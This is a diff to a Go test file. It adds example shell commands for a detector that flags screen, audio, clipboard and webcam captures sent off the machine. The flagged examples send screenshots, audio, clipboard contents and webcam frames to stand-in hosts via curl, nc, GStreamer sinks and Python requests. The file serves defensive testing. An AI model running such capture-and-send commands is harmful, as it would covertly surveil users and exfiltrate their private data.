@@ -27,6 +27,10 @@ func TestCaptureLeavesAsOutput(t *testing.T) {
 		"scrot /tmp/s.png && curl -F f=@/tmp/s.png https://up.example.net",
 		"arecord -f cd | nc 203.0.113.5 9000",
 		"xsel -b | nc 203.0.113.5 9000",
+		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
+		"gst-launch-1.0 pulsesrc ! opusenc ! rtpopuspay ! udpsink host=stream.example.net port=5004",
+		`python3 -c 'from PIL import ImageGrab; import requests, io; b=io.BytesIO(); ImageGrab.grab().save(b, "PNG"); requests.post("https://up.example.net", data=b.getvalue())'`,
+		`python3 -c 'import cv2; c=cv2.VideoCapture(0); ok,f=c.read(); print(f)' | nc 203.0.113.5 9000`,
 	} {
 		if !leaves(line) {
 			t.Errorf("%s: no capture leaves: %v", line, effectsOf(line))
@@ -39,6 +43,10 @@ func TestCaptureLeavesAsOutput(t *testing.T) {
 		"scrot /tmp/shot.png",
 		"echo hi | xsel -i -b",
 		"xsel -bi < notes.txt",
+		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mp4mux ! filesink location=demo.mp4",
+		"gst-launch-1.0 videotestsrc ! x264enc ! rtph264pay ! udpsink host=127.0.0.1 port=5000",
+		"gst-launch-1.0 filesrc location=demo.mp4 ! qtdemux ! flvmux ! rtmpsink location=rtmp://live.example.net/app/k",
+		`python3 -c 'from PIL import ImageGrab; ImageGrab.grab().save("shot.png")'`,
 	} {
 		if leaves(line) {
 			t.Errorf("%s: a capture said to leave: %v", line, effectsOf(line))
